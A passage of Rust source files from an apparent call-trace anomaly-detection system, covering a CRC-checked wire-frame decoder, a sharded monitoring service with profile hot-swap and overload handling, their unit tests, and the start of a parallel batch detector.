            return Err(self.quarantine(at, WireError::BadTerminator));
        }
        let payload = &self.buf[payload_start..frame_end];
        let actual = crc32(payload);
        if actual != crc {
            return Err(self.quarantine(
                at,
                WireError::CrcMismatch {
                    expected: crc,
                    actual,
                },
            ));
        }
        match decode_payload(payload) {
            Ok(records) => {
                // Frame boundaries were CRC-clean, so resume right after
                // it even when the payload itself failed to parse.
                self.pos = frame_end + 1;
                Ok(records)
            }
            Err(reason) => {
                self.pos = frame_end + 1;
                Err(FrameDefect {
                    offset: at,
                    reason: WireError::BadPayload(reason),
                })
            }
        }
    }
}

impl<'a> Iterator for FrameDecoder<'a> {
    type Item = Result<Vec<WireRecord<'a>>, FrameDefect>;

    fn next(&mut self) -> Option<Self::Item> {
        if self.pos >= self.buf.len() {
            return None;
        }
        if !self.buf[self.pos..].starts_with(WIRE_MAGIC) {
            let at = self.pos;
            return Some(Err(self.quarantine(at, WireError::BadMagic)));
        }
        Some(self.decode_at())
    }
}

/// Decodes an entire buffer: `(batches, defects)`. Convenience wrapper
/// over [`FrameDecoder`] for callers that do not stream.
pub fn decode_frames(buf: &[u8]) -> (Vec<Vec<WireRecord<'_>>>, Vec<FrameDefect>) {
    let mut batches = Vec::new();
    let mut defects = Vec::new();
    for item in FrameDecoder::new(buf) {
        match item {
            Ok(batch) => batches.push(batch),
            Err(defect) => defects.push(defect),
        }
    }
    (batches, defects)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tagged(app: &str, session: &str, name: &str, call: LibCall) -> TaggedCall {
        TaggedCall {
            app: app.to_string(),
            session: session.to_string(),
            event: CallEvent {
                name: name.into(),
                call,
                caller: "main".into(),
                site: CallSiteId(7),
                detail: (name == "PQexec").then(|| "SELECT ?".to_string()),
            },
        }
    }

    fn demo_batch() -> Vec<TaggedCall> {
        vec![
            tagged("bank", "s-0", "PQexec", LibCall::PQexec),
            tagged("bank", "s-1", "printf_Q6", LibCall::Printf),
            tagged("shop", "s-0", "fwrite", LibCall::Fwrite),
        ]
    }

    fn assert_round_trips(batch: &[TaggedCall]) {
        let bytes = encode_frame(batch);
        let (batches, defects) = decode_frames(&bytes);
        assert!(defects.is_empty(), "{defects:?}");
        assert_eq!(batches.len(), 1);
        let decoded: Vec<TaggedCall> = batches[0].iter().map(WireRecord::to_tagged).collect();
        assert_eq!(decoded, batch);
    }

    #[test]
    fn frame_round_trips_bit_identically() {
        assert_round_trips(&demo_batch());
        assert_round_trips(&[]); // heartbeat frame
    }

    #[test]
    fn every_call_round_trips_through_its_discriminant() {
        for &call in LibCall::ALL {
            assert_round_trips(&[tagged("app", "s", call.name(), call)]);
        }
    }

    #[test]
    fn stream_chunks_into_frames() {
        let batch = demo_batch();
        let bytes = encode_stream(&batch, 2);
        let (batches, defects) = decode_frames(&bytes);
        assert!(defects.is_empty());
        assert_eq!(batches.iter().map(Vec::len).collect::<Vec<_>>(), vec![2, 1]);
    }

    #[test]
    fn frame_matches_documented_layout() {
        let bytes = encode_frame(&demo_batch());
        assert_eq!(&bytes[0..4], WIRE_MAGIC);
        assert_eq!(bytes[12], b' ');
        assert_eq!(bytes[21], b' ');
        assert_eq!(*bytes.last().unwrap(), b'\n');
        let len = usize::from_str_radix(std::str::from_utf8(&bytes[4..12]).unwrap(), 16).unwrap();
        assert_eq!(bytes.len(), WIRE_HEADER + len + 1);
    }

    #[test]
    fn corrupt_frame_is_quarantined_without_poisoning_the_next() {
        let good = demo_batch();
        let mut bytes = encode_frame(&good);
        let first_len = bytes.len();
        encode_frame_into(&good[..1], &mut bytes);
        // Flip a payload byte of the first frame.
        bytes[WIRE_HEADER + 3] ^= 0x40;
        let (batches, defects) = decode_frames(&bytes);
        assert_eq!(defects.len(), 1, "{defects:?}");
        assert!(matches!(defects[0].reason, WireError::CrcMismatch { .. }));
        assert_eq!(defects[0].offset, 0);
        assert_eq!(batches.len(), 1, "second frame survives");
        assert_eq!(batches[0][0].to_tagged(), good[0]);
        // The defect's resync landed exactly on the second frame.
        assert_eq!(
            find_magic(&bytes, 1),
            Some(first_len),
            "payload happens to contain no magic"
        );
    }

    #[test]
    fn garbage_between_frames_is_skipped_with_one_defect() {
        let good = demo_batch();
        let mut bytes = b"noise".to_vec();
        encode_frame_into(&good, &mut bytes);
        let (batches, defects) = decode_frames(&bytes);
        assert_eq!(defects.len(), 1);
        assert_eq!(defects[0].reason, WireError::BadMagic);
        assert_eq!(batches.len(), 1);
    }

    #[test]
    fn torn_tail_is_reported_not_panicked() {
        let bytes = encode_frame(&demo_batch());
        for cut in 1..bytes.len() {
            let (batches, defects) = decode_frames(&bytes[..cut]);
            assert!(batches.is_empty(), "cut {cut}");
            assert_eq!(defects.len(), 1, "cut {cut}");
        }
    }

    #[test]
    fn payload_version_skew_is_reported_after_crc_passes() {
        // Hand-build a CRC-valid frame whose payload claims a record the
        // bytes cannot back: structural decode must fail cleanly.
        let payload = 5u32.to_le_bytes().to_vec();
        let mut bytes = WIRE_MAGIC.to_vec();
        bytes.extend_from_slice(
            format!("{:08x} {:08x} ", payload.len(), crc32(&payload)).as_bytes(),
        );
        bytes.extend_from_slice(&payload);
        bytes.push(b'\n');
        let (batches, defects) = decode_frames(&bytes);
        assert!(batches.is_empty());
        assert_eq!(defects.len(), 1);
        assert!(matches!(defects[0].reason, WireError::BadPayload(_)));
    }
}
