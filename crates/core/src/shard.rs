//! The sharded monitoring service: N [`MonitorRuntime`] shards behind one
//! framed ingest boundary and an epoch-coherent control plane.
//!
//! ## Partitioning
//!
//! Sessions are partitioned by the same FNV-1a hash the runtime's
//! live-session index uses ([`fnv1a`] over `app`, a `0xFF` separator,
//! then `session`), so every event of a session lands on one shard for
//! the session's whole life. Each shard is a completely independent
//! [`MonitorRuntime`]: its own serial ingest clock, its own bounded
//! queue and [`OverloadConfig`](crate::runtime::OverloadConfig)
//! (backpressure and shedding are per-shard decisions, not global), and
//! its own scoring pool — so each shard independently keeps the
//! bit-identical-verdicts-at-any-thread-count guarantee, and the merged
//! report stream is deterministic in `(shard, arrival)` order.
//!
//! ## Ingest
//!
//! Events arrive either pre-tagged ([`ShardedMonitor::ingest`] /
//! [`ShardedMonitor::ingest_stream`]) or as wire frames
//! ([`ShardedMonitor::ingest_frames`], see [`crate::wire`]). Framed
//! ingest decodes zero-copy, quarantines corrupt frames (the decoder
//! resynchronizes, so one bad frame never poisons the next), and screens
//! every record through [`TraceValidator`] before routing — a defective
//! event (corrupt name, malformed DDG label) is quarantined with a
//! reason, never scored.
//!
//! [`ShardedMonitor::ingest_stream_parallel`] drives all shards from one
//! pre-partitioned pass with one OS thread per shard — same per-shard
//! event order as the serial path, therefore the same verdicts.
//!
//! ## Control plane
//!
//! [`ShardedMonitor::control`] executes [`ServiceCommand`]s:
//!
//! * `Swap` hot-swaps an application's profile across all shards behind
//!   a *publish barrier*: every shard is flushed first (all buffered
//!   windows score and commit against the epochs they are pinned to),
//!   then the new epoch is published through the single shared
//!   [`ProfileRegistry`] — one atomic pointer swap that every shard
//!   observes at once. After the swap quiesces, no two shards can open a
//!   session for the app at different epochs; sessions already in flight
//!   keep scoring against their pinned epoch (first-event pinning), so a
//!   session's windows are never split across epochs.
//! * `Drain` flushes every shard's pending work through its scoring pool.
//! * `Snapshot` reports per-shard [`ShardStatus`] (occupancy, queue
//!   depth, ingest tallies, health).
//! * `Health` rolls per-shard [`HealthMonitor`] states up to the worst.

use crate::detect::Flag;
use crate::registry::{ProfileRegistry, SwapError};
use crate::resilience::{Health, HealthMonitor};
use crate::runtime::{
    fnv1a, IngestStatus, MonitorRuntime, RuntimeConfig, SessionEnd, SessionReport,
};
use crate::telemetry::ShardMetrics;
use crate::wire::{FrameDecoder, FrameDefect, WireRecord};
use crate::Profile;
use adprom_obs::{Registry, Tracer};
use adprom_trace::{QuarantinedTrace, TaggedCall, TraceValidator};
use std::sync::Arc;

/// Which shard a session belongs to: FNV-1a over the `(app, session)`
/// pair, reduced modulo the shard count. Stable for the life of the
/// deployment — resharding means draining and replaying.
pub fn shard_for(app: &str, session: &str, shards: usize) -> usize {
    let mut key = Vec::with_capacity(app.len() + 1 + session.len());
    key.extend_from_slice(app.as_bytes());
    key.push(0xFF); // unambiguous separator: never appears in UTF-8
    key.extend_from_slice(session.as_bytes());
    (fnv1a(&key) % shards.max(1) as u64) as usize
}

/// Splits a tagged stream into per-shard substreams, preserving each
/// shard's arrival order. The bench harness replays these per shard to
/// measure the shard array's critical-path throughput.
pub fn partition_stream(stream: &[TaggedCall], shards: usize) -> Vec<Vec<TaggedCall>> {
    let mut parts = vec![Vec::new(); shards.max(1)];
    for tagged in stream {
        parts[shard_for(&tagged.app, &tagged.session, shards)].push(tagged.clone());
    }
    parts
}

/// Ingest-boundary tallies for one shard (mirrored into the
/// `monitor.shard.<i>.*` metric family when a registry is attached).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ShardTally {
    /// Events admitted (normally or after a backpressure flush).
    pub ingested: u64,
    /// Events admitted only after a forced synchronous flush.
    pub backpressured: u64,
    /// Events dropped at capacity by the shed policy.
    pub shed: u64,
    /// Events dropped because their app has no registered profile.
    pub unknown_app: u64,
}

/// One shard's status row, as returned by the `Snapshot` command.
#[derive(Debug, Clone)]
pub struct ShardStatus {
    /// Shard index.
    pub shard: usize,
    /// Live sessions resident in the shard's table.
    pub sessions_active: usize,
    /// Events buffered and not yet flushed through the scoring pool.
    pub pending: usize,
    /// Ingest-boundary tallies since construction.
    pub tally: ShardTally,
    /// The shard's health state.
    pub health: Health,
}

/// What one [`ShardedMonitor::ingest_frames`] call did with a frame
/// buffer: every count an operator needs to account for each byte.
#[derive(Debug, Clone, Default)]
pub struct FrameIngest {
    /// Frames that decoded and validated.
    pub frames: usize,
    /// Records decoded from valid frames (routed + quarantined).
    pub records: usize,
    /// Events admitted across all shards.
    pub admitted: usize,
    /// Events admitted after a backpressure flush.
    pub backpressured: usize,
    /// Events shed at capacity.
    pub shed: usize,
    /// Events whose app has no registered profile.
    pub unknown_app: usize,
    /// Frames the decoder rejected (CRC mismatch, torn header, …); the
    /// decoder resynchronized past each one.
    pub frame_defects: Vec<FrameDefect>,
    /// Records screened out by the trace validator, with reasons.
    pub quarantined: Vec<QuarantinedTrace>,
}

/// Control-plane commands. See the module docs for semantics.
#[derive(Debug)]
pub enum ServiceCommand {
    /// Hot-swap `app`'s profile across every shard behind the publish
    /// barrier.
    Swap {
        /// Application whose profile is being replaced.
        app: String,
        /// The replacement profile (validated before publication).
        profile: Box<Profile>,
    },
    /// Flush every shard's pending work through its scoring pool.
    Drain,
    /// Collect per-shard status rows.
    Snapshot,
    /// Roll per-shard health up to the worst state.
    Health,
}

/// Control-plane responses, one variant per [`ServiceCommand`].
#[derive(Debug)]
pub enum ServiceResponse {
    /// The swap published; every shard now opens sessions at `epoch`.
    Swapped {
        /// The new profile epoch.
        epoch: u64,
    },
    /// All shards flushed.
    Drained,
    /// Per-shard status rows, shard-index order.
    Snapshot(Vec<ShardStatus>),
    /// Worst health across shards.
    Health(Health),
}

/// N-shard monitoring service. Owns its shards; `finish` consumes the
/// monitor and merges reports deterministically.
#[derive(Debug)]
pub struct ShardedMonitor {
    shards: Vec<MonitorRuntime>,
    profiles: Arc<ProfileRegistry>,
    validator: TraceValidator,
    metrics: Vec<ShardMetrics>,
    tallies: Vec<ShardTally>,
    health: Vec<HealthMonitor>,
}

impl ShardedMonitor {
    /// A service of `shards` runtimes (at least one), all resolving
    /// profiles through the same shared registry — which is what makes
    /// the control plane's epoch publication atomic across shards.
    pub fn new(profiles: Arc<ProfileRegistry>, shards: usize) -> ShardedMonitor {
        let n = shards.max(1);
        ShardedMonitor {
            shards: (0..n)
                .map(|i| MonitorRuntime::new(Arc::clone(&profiles)).with_shard_id(i as u32))
                .collect(),
            profiles,
            validator: TraceValidator::new(),
            metrics: vec![ShardMetrics::disabled(); n],
            tallies: vec![ShardTally::default(); n],
            health: (0..n).map(|_| HealthMonitor::new()).collect(),
        }
    }

    /// Applies `config` to every shard. Queue bounds and the overload
    /// config are per-shard: a capacity of `c` gives the service `N × c`
    /// aggregate buffering, and one hot shard backpressures or sheds
    /// without stalling its siblings.
    pub fn with_config(mut self, config: RuntimeConfig) -> ShardedMonitor {
        self.shards = self
            .shards
            .into_iter()
            .map(|s| s.with_config(config.clone()))
            .collect();
        self
    }

    /// Sizes every shard's scoring pool to `threads` workers (`0` shares
    /// the process-default rayon pool).
    pub fn with_threads(mut self, threads: usize) -> ShardedMonitor {
        self.shards = self
            .shards
            .into_iter()
            .map(|s| s.with_threads(threads))
            .collect();
        self
    }

    /// Registers service metrics: the per-shard
    /// `monitor.shard.<i>.{ingested,backpressured,shed}` family, the
    /// shared `monitor.*` handles inside every shard runtime (counters
    /// aggregate across shards; gauges are last-writer), ingest screening
    /// counters, and per-shard health gauges.
    pub fn with_registry(mut self, registry: &Registry) -> ShardedMonitor {
        self.metrics = (0..self.shards.len())
            .map(|i| ShardMetrics::from_registry(registry, i))
            .collect();
        self.shards = self
            .shards
            .into_iter()
            .map(|s| s.with_registry(registry))
            .collect();
        self.validator = TraceValidator::new().with_registry(registry);
        self
    }

    /// Installs a span tracer on every shard; each shard stamps its own
    /// shard id on the contexts it opens, so stage histograms filter per
    /// shard.
    pub fn with_tracer(mut self, tracer: Tracer) -> ShardedMonitor {
        self.shards = self
            .shards
            .into_iter()
            .map(|s| s.with_tracer(tracer.clone()))
            .collect();
        self
    }

    /// Number of shards.
    pub fn shard_count(&self) -> usize {
        self.shards.len()
    }

    /// The shard `(app, session)` routes to.
    pub fn shard_of(&self, app: &str, session: &str) -> usize {
        shard_for(app, session, self.shards.len())
    }

    /// Live sessions across all shards.
    pub fn sessions_active(&self) -> usize {
        self.shards
            .iter()
            .map(MonitorRuntime::sessions_active)
            .sum()
    }

    /// Buffered events across all shards.
    pub fn pending(&self) -> usize {
        self.shards.iter().map(MonitorRuntime::pending).sum()
    }

    fn note(&mut self, shard: usize, status: IngestStatus) {
        let tally = &mut self.tallies[shard];
        let metrics = &self.metrics[shard];
        match status {
            IngestStatus::Admitted => {
                tally.ingested += 1;
                metrics.ingested.inc();
            }
            IngestStatus::Backpressured => {
                tally.ingested += 1;
                tally.backpressured += 1;
                metrics.ingested.inc();
                metrics.backpressured.inc();
            }
            IngestStatus::Shed => {
                tally.shed += 1;
                metrics.shed.inc();
                // Shedding is absorbed, deliberate degradation: verdicts
                // for surviving windows stay trustworthy, but coverage
                // dropped — surface it on the shard's health.
                self.health[shard].degrade("shed events at ingest capacity");
            }
            IngestStatus::UnknownApp => tally.unknown_app += 1,
        }
    }

    /// Routes one tagged event to its shard and reports what that
    /// shard's ingest boundary did with it.
    pub fn ingest(&mut self, tagged: &TaggedCall) -> IngestStatus {
        let shard = self.shard_of(&tagged.app, &tagged.session);
        let status = self.shards[shard].ingest(tagged);
        self.note(shard, status);
        status
    }

    /// Routes a pre-tagged stream serially — the deterministic reference
    /// drive (shards tick in stream arrival order).
    pub fn ingest_stream(&mut self, stream: &[TaggedCall]) {
        for tagged in stream {
            self.ingest(tagged);
        }
    }

    /// Drives all shards concurrently: the stream is partitioned by the
    /// routing hash, then one OS thread per shard replays that shard's
    /// substream. Per-shard event order is identical to the serial
    /// drive, so verdicts are too; only the tick interleaving *across*
    /// shards differs, which no per-shard decision observes.
    pub fn ingest_stream_parallel(&mut self, stream: &[TaggedCall]) {
        let n = self.shards.len();
        let mut parts: Vec<Vec<&TaggedCall>> = vec![Vec::new(); n];
        for tagged in stream {
            parts[shard_for(&tagged.app, &tagged.session, n)].push(tagged);
        }
        let statuses: Vec<Vec<IngestStatus>> = std::thread::scope(|scope| {
            let handles: Vec<_> = self
                .shards
                .iter_mut()
                .zip(&parts)
                .map(|(shard, part)| {
                    scope.spawn(move || part.iter().map(|t| shard.ingest(t)).collect())
                })
                .collect();
            handles
                .into_iter()
                .map(|h| h.join().expect("shard thread"))
                .collect()
        });
        for (shard, statuses) in statuses.into_iter().enumerate() {
            for status in statuses {
                self.note(shard, status);
            }
        }
    }

    /// Decodes a wire-frame buffer and routes every clean record to its
    /// shard. Corrupt frames are quarantined by the decoder (which
    /// resynchronizes past them); defective records are quarantined by
    /// the validator. Neither is ever scored.
    pub fn ingest_frames(&mut self, buf: &[u8]) -> FrameIngest {
        let mut report = FrameIngest::default();
        // Decode borrows `buf`; materialize per frame so routing can
        // take `&mut self`.
        let mut frames: Vec<Vec<TaggedCall>> = Vec::new();
        for item in FrameDecoder::new(buf) {
            match item {
                Ok(batch) => {
                    report.frames += 1;
                    report.records += batch.len();
                    frames.push(batch.iter().map(WireRecord::to_tagged).collect());
                }
                Err(defect) => report.frame_defects.push(defect),
            }
        }
        for batch in &frames {
            let sessions: Vec<String> = batch.iter().map(|t| t.session.clone()).collect();
            let traces: Vec<Vec<_>> = batch.iter().map(|t| vec![t.event.clone()]).collect();
            let screened = self.validator.screen(&sessions, &traces);
            for &idx in &screened.kept_indices {
                match self.ingest(&batch[idx]) {
                    IngestStatus::Admitted => report.admitted += 1,
                    IngestStatus::Backpressured => {
                        report.admitted += 1;
                        report.backpressured += 1;
                    }
                    IngestStatus::Shed => report.shed += 1,
                    IngestStatus::UnknownApp => report.unknown_app += 1,
                }
            }
            report.quarantined.extend(screened.quarantined);
        }
        report
    }

    /// Flushes every shard's pending work through its scoring pool.
    pub fn flush_all(&mut self) {
        for shard in &mut self.shards {
            shard.flush();
        }
    }

    /// Hot-swaps `app`'s profile across all shards behind the publish
    /// barrier (flush-all, then one atomic registry publication).
    /// Returns the new epoch. On rejection the old epoch stays in force
    /// everywhere — the barrier flush is the only side effect.
    pub fn swap_profile(&mut self, app: &str, profile: Profile) -> Result<u64, SwapError> {
        self.flush_all();
        self.profiles.register(app, profile)
    }

    /// Per-shard status rows, shard-index order.
    pub fn snapshot(&self) -> Vec<ShardStatus> {
        self.shards
            .iter()
            .enumerate()
            .map(|(i, shard)| ShardStatus {
                shard: i,
                sessions_active: shard.sessions_active(),
                pending: shard.pending(),
                tally: self.tallies[i],
                health: self.health[i].state(),
            })
            .collect()
    }

    /// One shard's health monitor (reasons, manual degrade from an
    /// operator wrapper).
    pub fn shard_health(&self, shard: usize) -> &HealthMonitor {
        &self.health[shard]
    }

    /// Worst health across shards.
    pub fn health(&self) -> Health {
        self.health
            .iter()
            .map(HealthMonitor::state)
            .max()
            .unwrap_or(Health::Healthy)
    }

    /// Executes one control-plane command.
    pub fn control(&mut self, command: ServiceCommand) -> Result<ServiceResponse, SwapError> {
        match command {
            ServiceCommand::Swap { app, profile } => self
                .swap_profile(&app, *profile)
                .map(|epoch| ServiceResponse::Swapped { epoch }),
            ServiceCommand::Drain => {
                self.flush_all();
                Ok(ServiceResponse::Drained)
            }
            ServiceCommand::Snapshot => Ok(ServiceResponse::Snapshot(self.snapshot())),
            ServiceCommand::Health => Ok(ServiceResponse::Health(self.health())),
        }
    }

    /// Finalizes every shard and merges the reports in deterministic
    /// `(shard, arrival)` order: shard 0's reports in arrival order,
    /// then shard 1's, … A failed session raises its shard's health to
    /// `Failed` on the way out.
    pub fn finish(self) -> Vec<SessionReport> {
        let health = self.health;
        let mut merged = Vec::new();
        for (i, shard) in self.shards.into_iter().enumerate() {
            let reports = shard.finish();
            for report in &reports {
                if let SessionEnd::Failed(reason) = &report.end {
                    health[i].fail(&format!(
                        "session {}/{} failed: {reason}",
                        report.app, report.session
                    ));
                }
            }
            merged.extend(reports);
        }
        merged
    }
}

/// Folds a merged report stream into the service-level verdict
/// partition: how many sessions ended Normal / Anomalous / DataLeak /
/// OutOfContext.
pub fn verdict_partition(reports: &[SessionReport]) -> [usize; 4] {
    let mut partition = [0usize; 4];
    for report in reports {
        let idx = match report.verdict {
            Flag::Normal => 0,
            Flag::Anomalous => 1,
            Flag::DataLeak => 2,
            Flag::OutOfContext => 3,
        };
        partition[idx] += 1;
    }
    partition
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::runtime::OverloadConfig;
    use crate::scorer::ScoringMode;
    use crate::wire::encode_stream;
    use crate::{Alphabet, Profile};
    use adprom_hmm::Hmm;
    use adprom_lang::{CallSiteId, LibCall};
    use adprom_trace::{interleave, CallEvent};
    use std::collections::{BTreeMap, BTreeSet};

    fn event(name: &str, caller: &str) -> CallEvent {
        CallEvent {
            name: name.into(),
            call: LibCall::Printf,
            caller: caller.into(),
            site: CallSiteId(0),
            detail: None,
        }
    }

    fn cyclic_profile(app: &str, threshold: f64) -> Profile {
        let alphabet = Alphabet::new(vec!["a".to_string(), "b".to_string(), "c_Q7".to_string()]);
        let m = alphabet.len();
        let mut a = vec![vec![0.001; m]; m];
        a[0][1] = 1.0;
        a[1][2] = 1.0;
        a[2][0] = 1.0;
        a[3][3] = 1.0;
        let mut b = vec![vec![0.001; m]; m];
        for (i, row) in b.iter_mut().enumerate() {
            row[i] = 1.0;
        }
        let pi = vec![1.0; m];
        let mut hmm = Hmm::from_rows(a, b, pi);
        hmm.smooth(1e-4);
        let mut call_callers: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
        for name in ["a", "b", "c_Q7"] {
            call_callers
                .entry(name.to_string())
                .or_default()
                .insert("main".to_string());
        }
        Profile {
            app_name: app.into(),
            alphabet,
            hmm,
            window: 3,
            threshold,
            call_callers,
            labeled_outputs: vec!["c_Q7".to_string()],
        }
    }

    fn demo_sessions(per_app: usize) -> Vec<(String, String, Vec<CallEvent>)> {
        let mut sessions = Vec::new();
        for app in ["bank", "shop"] {
            for i in 0..per_app {
                let trace = if i % 3 == 2 {
                    vec![
                        event("a", "main"),
                        event("b", "attacker"),
                        event("c_Q7", "main"),
                    ]
                } else {
                    vec![
                        event("a", "main"),
                        event("b", "main"),
                        event("c_Q7", "main"),
                    ]
                };
                sessions.push((app.to_string(), format!("{app}-{i}"), trace));
            }
        }
        sessions
    }

    fn registry() -> Arc<ProfileRegistry> {
        let profiles = ProfileRegistry::new();
        profiles
            .register("bank", cyclic_profile("bank", -5.0))
            .unwrap();
        profiles
            .register("shop", cyclic_profile("shop", -5.0))
            .unwrap();
        Arc::new(profiles)
    }

    #[test]
    fn routing_is_stable_and_uses_both_app_and_session() {
        let monitor = ShardedMonitor::new(registry(), 4);
        assert_eq!(
            monitor.shard_of("bank", "s-1"),
            monitor.shard_of("bank", "s-1")
        );
        // Sessions spread: with 16 ids over 4 shards, at least two shards
        // must be populated (FNV would have to be catastrophically bad).
        let used: BTreeSet<usize> = (0..16)
            .map(|i| monitor.shard_of("bank", &format!("s-{i}")))
            .collect();
        assert!(used.len() > 1, "{used:?}");
    }

    #[test]
    fn sharded_verdicts_match_single_runtime_and_merge_deterministically() {
        let sessions = demo_sessions(6);
        let stream = interleave(&sessions, 0x51A2D);

        let mut single = MonitorRuntime::new(registry());
        single.ingest_stream(&stream);
        let mut expected: Vec<SessionReport> = single.finish();
        expected.sort_by_key(|r| (shard_for(&r.app, &r.session, 4), r.arrival));
        // Arrival indices are per-runtime, so compare identity + alerts.
        let expected: Vec<(String, String, String)> = expected
            .into_iter()
            .map(|r| (r.app, r.session, format!("{:?}", r.alerts)))
            .collect();

        for parallel in [false, true] {
            let mut sharded = ShardedMonitor::new(registry(), 4);
            if parallel {
                sharded.ingest_stream_parallel(&stream);
            } else {
                sharded.ingest_stream(&stream);
            }
            let got: Vec<(String, String, String)> = sharded
                .finish()
                .into_iter()
                .map(|r| (r.app, r.session, format!("{:?}", r.alerts)))
                .collect();
            assert_eq!(got, expected, "parallel={parallel}");
        }
    }

    #[test]
    fn framed_ingest_routes_and_quarantines() {
        let sessions = demo_sessions(4);
        let stream = interleave(&sessions, 0xF4A3);
        let mut bytes = encode_stream(&stream, 16);
        // Corrupt one mid-buffer frame payload byte.
        let victim = bytes.len() / 2;
        bytes[victim] ^= 0x20;
        // And append a frame carrying one defective record (control char
        // in the name) alongside a clean one.
        let mut tail = stream[0].clone();
        tail.event.name = "bad\u{1}name".into();
        let clean = stream[1].clone();
        bytes.extend_from_slice(&encode_stream(&[tail, clean], 0));

        let mut monitor = ShardedMonitor::new(registry(), 2);
        let report = monitor.ingest_frames(&bytes);
        assert_eq!(report.frame_defects.len(), 1, "{:?}", report.frame_defects);
        assert_eq!(report.quarantined.len(), 1);
        assert!(report.quarantined[0].reason.contains("control character"));
        assert!(report.frames > 0);
        assert_eq!(report.admitted, report.records - report.quarantined.len());
        assert_eq!(report.unknown_app, 0);
        // The service still produces reports for every session that had
        // clean events.
        assert!(!monitor.finish().is_empty());
    }

    #[test]
    fn swap_barrier_pins_in_flight_sessions_and_moves_new_ones() {
        let profiles = registry();
        let mut monitor =
            ShardedMonitor::new(Arc::clone(&profiles), 4).with_config(RuntimeConfig {
                mode: ScoringMode::Incremental,
                ..RuntimeConfig::default()
            });
        let sessions = demo_sessions(4);
        let stream = interleave(&sessions, 0xBA44);
        let half = stream.len() / 2;
        monitor.ingest_stream(&stream[..half]);
        let response = monitor
            .control(ServiceCommand::Swap {
                app: "bank".to_string(),
                profile: Box::new(cyclic_profile("bank", 0.0)),
            })
            .expect("swap validates");
        let epoch = match response {
            ServiceResponse::Swapped { epoch } => epoch,
            other => panic!("unexpected response {other:?}"),
        };
        assert_eq!(epoch, 2);
        monitor.ingest_stream(&stream[half..]);
        let reports = monitor.finish();
        for report in &reports {
            let first = stream
                .iter()
                .position(|t| t.app == report.app && t.session == report.session)
                .expect("session on stream");
            let expected_epoch = if report.app == "bank" && first >= half {
                2
            } else {
                1
            };
            assert_eq!(
                report.epoch, expected_epoch,
                "{}/{} first event at {first}",
                report.app, report.session
            );
        }
        // Both epochs must actually occur for bank sessions.
        let epochs: BTreeSet<u64> = reports
            .iter()
            .filter(|r| r.app == "bank")
            .map(|r| r.epoch)
            .collect();
        assert_eq!(epochs, BTreeSet::from([1, 2]));
    }

    #[test]
    fn per_shard_overload_backpressure_is_isolated_and_counted() {
        let obs = Registry::new();
        let mut monitor = ShardedMonitor::new(registry(), 2)
            .with_config(RuntimeConfig {
                queue_capacity: 0,
                overload: OverloadConfig {
                    capacity: 2,
                    ..OverloadConfig::default()
                },
                ..RuntimeConfig::default()
            })
            .with_registry(&obs);
        // All events for ONE session: exactly one shard fills and
        // backpressures; the other stays idle.
        let hot = TaggedCall {
            app: "bank".to_string(),
            session: "hot".to_string(),
            event: event("a", "main"),
        };
        for _ in 0..6 {
            monitor.ingest(&hot);
        }
        let hot_shard = monitor.shard_of("bank", "hot");
        let status = monitor.snapshot();
        assert!(status[hot_shard].tally.backpressured > 0);
        let cold = 1 - hot_shard;
        assert_eq!(status[cold].tally, ShardTally::default());
        let snap = obs.snapshot();
        assert_eq!(
            snap.counter(&format!("monitor.shard.{hot_shard}.backpressured")),
            Some(status[hot_shard].tally.backpressured)
        );
        assert_eq!(
            snap.counter(&format!("monitor.shard.{cold}.ingested")),
            Some(0)
        );
        assert_eq!(
            monitor.health(),
            Health::Healthy,
            "backpressure is not degradation"
        );
    }

    #[test]
    fn shed_raises_shard_health_and_unknown_app_is_tallied() {
        use crate::runtime::ShedPolicy;
        let mut monitor = ShardedMonitor::new(registry(), 2).with_config(RuntimeConfig {
            queue_capacity: 0,
            overload: OverloadConfig {
                capacity: 1,
                shed_policy: ShedPolicy::DropNewest,
                budget: 1,
                ..OverloadConfig::default()
            },
            mode: ScoringMode::Incremental,
            ..RuntimeConfig::default()
        });
        let mk = |session: &str, name: &str| TaggedCall {
            app: "bank".to_string(),
            session: session.to_string(),
            event: event(name, "main"),
        };
        // Benign events on a demoted session can shed once the queue is
        // at capacity; drive enough to see at least one shed.
        let mut shed_seen = false;
        for round in 0..8 {
            for s in 0..4 {
                let status = monitor.ingest(&mk(&format!("s-{s}"), "a"));
                shed_seen |= status == IngestStatus::Shed;
                let _ = round;
            }
        }
        if shed_seen {
            assert_eq!(monitor.health(), Health::Degraded);
            assert!(monitor
                .shard_health(
                    monitor
                        .snapshot()
                        .iter()
                        .find(|s| s.tally.shed > 0)
                        .unwrap()
                        .shard
                )
                .reasons()
                .iter()
                .any(|r| r.contains("shed")));
        }
        let unknown = TaggedCall {
            app: "ghost".to_string(),
            session: "s".to_string(),
            event: event("a", "main"),
        };
        assert_eq!(monitor.ingest(&unknown), IngestStatus::UnknownApp);
        assert_eq!(
            monitor
                .snapshot()
                .iter()
                .map(|s| s.tally.unknown_app)
                .sum::<u64>(),
            1
        );
    }

    #[test]
    fn verdict_partition_partitions() {
        let sessions = demo_sessions(5);
        let stream = interleave(&sessions, 0x77);
        let mut monitor = ShardedMonitor::new(registry(), 3);
        monitor.ingest_stream(&stream);
        let reports = monitor.finish();
        let partition = verdict_partition(&reports);
        assert_eq!(partition.iter().sum::<usize>(), reports.len());
    }
}
