//! Parallel batched detection: fan independent session traces out across a
//! thread pool and return per-trace alerts in deterministic input order.
//!
//! The paper evaluates AD-PROM monitoring a live application serving many
//! connections; each session's call stream is scored independently (windows
//! never span sessions), so batches parallelize embarrassingly. The
//! determinism guarantee: [`BatchDetector::detect_batch`] returns reports
//! in the exact order the traces were passed in, and in
//! [`ScoringMode::ExactWindows`] each report's alerts are *identical* —
//! field for field, including floating-point scores — to what a serial
//! `DetectionEngine::scan` loop over the same traces produces, regardless
//! of thread count or scheduling. Parallelism only changes wall-clock
//! time, never output.
//!
//! [`ScoringMode::Incremental`] swaps the per-window forward recompute for
//! [`SlidingForward`] (O(N²) per event instead of O(n·N²)); scores then
//! use the conditional window semantics documented in
//! [`adprom_hmm::sliding`]. Still deterministic — the incremental scorer
//! runs a fixed recurrence per trace — but not bit-identical to
//! `ExactWindows`, because the window likelihood is conditioned on the
//! session's history rather than restarted from π.

use crate::detect::{Alert, DetectionEngine, Flag};
use crate::profile::Profile;
use adprom_hmm::SlidingForward;
use adprom_trace::CallEvent;
